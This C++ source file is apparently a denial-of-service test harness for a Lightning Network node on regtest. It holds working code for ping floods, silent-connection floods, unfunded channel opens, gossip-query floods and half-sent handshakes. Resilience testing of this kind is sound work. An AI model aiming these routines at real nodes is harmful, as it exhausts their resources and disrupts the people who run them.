// What a node meets from strangers that have nothing: noise, questions, openings without money.
#include <arpa/inet.h>
#include <fcntl.h>
#include <sys/socket.h>
#include <unistd.h>

#include <list>

#include "commitment/commitment_tx.h"
#include "peer.h"
#include "wire/chains.h"

namespace doze::attack {
namespace {

ChainHash chain() {
  return wire::chain_hash(wire::Network::Regtest);
}

/// Of a crowd, whatever it is told.
constexpr std::uint64_t kMostConnections = 200'000;

/// Not waiting for the answer: a socket of a connection that says nothing.
int begin_connecting(std::uint16_t port, std::uint32_t source) {
  int file = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
  if (file < 0) return -1;
  sockaddr_in address{};
  address.sin_family = AF_INET;
  address.sin_addr.s_addr = htonl(source);
  ::bind(file, reinterpret_cast<sockaddr*>(&address), sizeof address);
  address.sin_port = htons(port);
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  ::connect(file, reinterpret_cast<sockaddr*>(&address), sizeof address);
  return file;
}

struct Wish {
  wire::OpenChannel message;
  std::unique_ptr<commitment::ChannelSigner> signer = commitment::make_signer(chance().secret<Secret>());
};

Wish wish() {
  Wish out;
  auto& m = out.message;
  const auto& keys = out.signer->public_keys();
  m.chain_hash = chain();
  m.temporary_channel_id = chance().id<ChannelId>();
  m.funding_satoshis = Sat(1'000'000);
  m.dust_limit_satoshis = Sat(354);
  m.max_htlc_value_in_flight_msat = Msat(1'000'000'000);
  m.channel_reserve_satoshis = Sat(10'000);
  m.htlc_minimum_msat = Msat(1);
  m.feerate_per_kw = FeeratePerKw(2'500);
  m.to_self_delay = 144;
  m.max_accepted_htlcs = 483;
  m.funding_pubkey = keys.funding;
  m.revocation_basepoint = keys.revocation_basepoint;
  m.payment_basepoint = keys.payment_basepoint;
  m.delayed_payment_basepoint = keys.delayed_payment_basepoint;
  m.htlc_basepoint = keys.htlc_basepoint;
  m.first_per_commitment_point = out.signer->per_commitment_point(0);
  m.channel_type = wire::FeatureBits{wire::kStaticRemotekey, wire::kAnchors};
  return out;
}

/// accept_channel for this wish; nullopt: refused.
std::optional<wire::AcceptChannel> ask(Peer& peer, const Wish& wish) {
  peer.send(wish.message);
  while (auto bytes = peer.receive(10)) {
    auto message = wire::decode(*bytes);
    if (!message) continue;
    if (const auto* accept = std::get_if<wire::AcceptChannel>(&*message)) return *accept;
    if (std::holds_alternative<wire::Error>(*message)) return std::nullopt;
  }
  return std::nullopt;
}

}  // namespace

int open_for_nothing(Peer& peer, bool create) {
  auto wanted = wish();
  const auto& ours = wanted.message;
  auto accept = ask(peer, wanted);
  if (!accept) return 0;
  if (!create) {
    peer.send(wire::Error{ours.temporary_channel_id, to_bytes(bytes_of("never mind")), {}});
    return 1;
  }
  commitment::CommitmentTerms terms;  // the victim's first commitment
  terms.funding = {chance().id<Txid>(), 0};
  terms.obscure_factor = commitment::obscure_factor(ours.payment_basepoint, accept->payment_basepoint);
  terms.per_commitment_point = accept->first_per_commitment_point;
  terms.owner = {accept->funding_pubkey, accept->revocation_basepoint, accept->payment_basepoint,
                 accept->delayed_payment_basepoint, accept->htlc_basepoint};
  terms.other = wanted.signer->public_keys();
  terms.dust_limit = accept->dust_limit_satoshis;
  terms.to_self_delay = ours.to_self_delay;
  terms.feerate = ours.feerate_per_kw;
  terms.to_other = to_msat(ours.funding_satoshis);
  auto commitment = commitment::build_commitment(terms);
  if (!commitment) throw Failed("no commitment can be built");
  auto signature = wanted.signer->sign_funding_input(
      commitment->transaction, commitment::funding_script(terms.owner.funding, terms.other.funding),
      ours.funding_satoshis);
  peer.send(wire::FundingCreated{ours.temporary_channel_id, terms.funding.txid, 0, signature, {}});
  return peer.wait_for<wire::FundingSigned>(10) ? 2 : 1;
}

/// Pings for long pongs, on many connections, and none of the pongs is read; then the connections end in one of several
/// ways.
Numbers pings(const Arguments& arguments) {
  auto to = Target::parse(arguments.text("to"));
  auto then = arguments.text("then", "stay");
  wire::Ping ping{static_cast<std::uint16_t>(arguments.number("bytes", 65'531)), 0, {}};
  std::list<Peer> peers;
  Numbers out;
  for (auto left = arguments.number("connections", 1); left > 0; --left) {
    try {
      auto& peer = peers.emplace_back(to);
      ++out["connected"];
      for (auto count = arguments.number("pings", 63); count > 0; --count) peer.send(ping);
      if (then == "read") out["pongs"] += peer.wait_for<wire::Pong>(5) ? 1 : 0;
      if (then == "half-close") peer.socket().half_close(), sleep_s(0.05);
      if (then != "stay") peers.pop_back();
    } catch (const Failed&) {
      ++out["refused"];
      if (out["refused"] > 5) break;
    }
  }
  sleep_s(static_cast<double>(arguments.number("seconds", 0)));
  return out;
}

/// Connections that say nothing, so many per second, from `spread` addresses of 127.1.0.0/16.
Numbers silent(const Arguments& arguments) {
  constexpr std::size_t kKeptOpen = 1'500;
  auto port = static_cast<std::uint16_t>(std::stoul(arguments.text("port")));
  auto rate = static_cast<double>(arguments.number("rate", 1'000));
  auto spread = static_cast<std::uint32_t>(arguments.number("spread", 1));
  double began = seconds_now(), end = began + static_cast<double>(arguments.number("seconds", 10));
  std::deque<int> files;
  Numbers out;
  while (seconds_now() < end) {
    for (; static_cast<double>(out["connects"]) < (seconds_now() - began) * rate; ++out["connects"]) {
      auto source = 0x7f010001 + static_cast<std::uint32_t>(out["connects"] % spread);
      if (int file = begin_connecting(port, source); file >= 0) files.push_back(file);
      if (files.size() > kKeptOpen) ::close(files.front()), files.pop_front();
    }
    sleep_s(0.002);
  }
  for (int file : files) ::close(file);
  return out;
}

Numbers openings(const Arguments& arguments) {
  Peer peer(Target::parse(arguments.text("to")));
  Numbers out;
  for (auto left = arguments.number("count", 150); left > 0 && peer.open(); --left)
    ++out[open_for_nothing(peer, false) == 1 ? "accepted" : "refused"];
  return out;
}

Numbers unfunded(const Arguments& arguments) {
  auto to = Target::parse(arguments.text("to"));
  Numbers out{{"signed", 0}};
  for (auto ids = arguments.number("ids", 1); ids > 0; --ids) {
    Peer peer(to);
    for (auto left = arguments.number("each", 4); left > 0 && peer.open(); --left)
      ++out[open_for_nothing(peer, true) == 2 ? "signed" : "refused"];
  }
  return out;
}

/// Gossip questions that are cheap to ask. A connection asks 99 times at most, then another one goes on.
Numbers questions(const Arguments& arguments) {
  constexpr std::uint64_t kPerConnection = 99;
  auto to = Target::parse(arguments.text("to"));
  auto kind = arguments.text("kind");
  wire::Message question = wire::GossipTimestampFilter{chain(), 0xffff'fff0, 1, {}};
  if (kind == "range") question = wire::QueryChannelRange{chain(), 0x00ff'fff0, 1, {}};
  if (kind == "ids") {
    std::vector<ShortChannelId> ids(8'000, ShortChannelId(std::stoull(arguments.text("scid"))));
    question = wire::QueryShortChannelIds{chain(), wire::write_short_ids(ids), {}};
  }
  Numbers out;
  double began = seconds_now();
  for (auto left = arguments.number("count", 99); left > 0;) {
    Peer peer(to);
    auto some = std::min(left, kPerConnection);
    left -= some;
    auto before = peer.sent;
    for (auto asked = some; asked > 0; --asked) peer.send(question);
    out["sent"] += peer.sent - before;
    bool answered = kind == "ids" ? peer.wait_for<wire::ReplyShortChannelIdsEnd>(60).has_value() : peer.handled(60);
    out["answered"] += answered ? some : 0;
    out["received"] += peer.received;
  }
  out["ms"] = static_cast<std::uint64_t>((seconds_now() - began) * 1000);
  return out;
}

namespace {

/// One of the crowd. What it does depends on its number; all leave half a frame behind.
class Nuisance {
 public:
  Nuisance(const offers::Offer& offer, const Target& to, std::size_t number)
      : peer_(to, fresh_key(), kPatienceS), born_(seconds_now()) {
    switch (number % 4) {
      case 0:
        for (int i = 0; i < 63; ++i) peer_.send(wire::Ping{65'531, 0, {}});
        break;
      case 1:
        peer_.send(wire::GossipTimestampFilter{chain(), 0, 0xffff'ffff, {}});
        for (int i = 0; i < 5; ++i) peer_.send(wire::QueryChannelRange{chain(), 0, 0xffff'ffff, {}});
        break;
      case 2:
        for (int i = 0; i < 8; ++i) send_request(peer_, to.id, offer);
        break;
      default:
        if (number % 8 == 3) (void)open_for_nothing(peer_, true);
        peer_.send(wish().message);
    }
    peer_.send_part(Bytes(65'535, 0xff), 60'000);
  }
  [[nodiscard]] bool over() const { return !peer_.open() || seconds_now() > born_ + kLifeS; }

 private:
  static constexpr double kPatienceS = 0.5, kLifeS = 20;
  Peer peer_;
  double born_;
};

}  // namespace

/// So many connections of all kinds at a time, which read nothing, and handshakes that stop in the middle. With again=1
/// each is replaced after a while.
Numbers crowd(const Arguments& arguments) {
  auto to = Target::parse(arguments.text("to"));
  auto offer = offer_in(arguments);
  auto count = arguments.number("connections", 500);
  double end = seconds_now() + static_cast<double>(arguments.number("seconds", 10));
  std::list<Socket> handshakes;
  for (auto left = arguments.number("handshakes", 0); left > 0; --left) {
    handshakes.emplace_back(to.port);
    (void)handshakes.back().send(Bytes(40, 0));
  }
  std::list<Nuisance> all;
  Numbers out;
  for (std::uint64_t number = 0; number == 0 || seconds_now() < end;) {
    for (; all.size() < count && number < kMostConnections; ++number) try {
        all.emplace_back(offer, to, number);
        ++out["connections"];
      } catch (const Failed&) {
        ++out["refused"];
        if (out["refused"] % 8 == 0) break;
      }
    if (arguments.number("again", 0) != 0) std::erase_if(all, [](const auto& one) { return one.over(); });
    sleep_s(0.1);
  }
  return out;
}

}  // namespace doze::attack
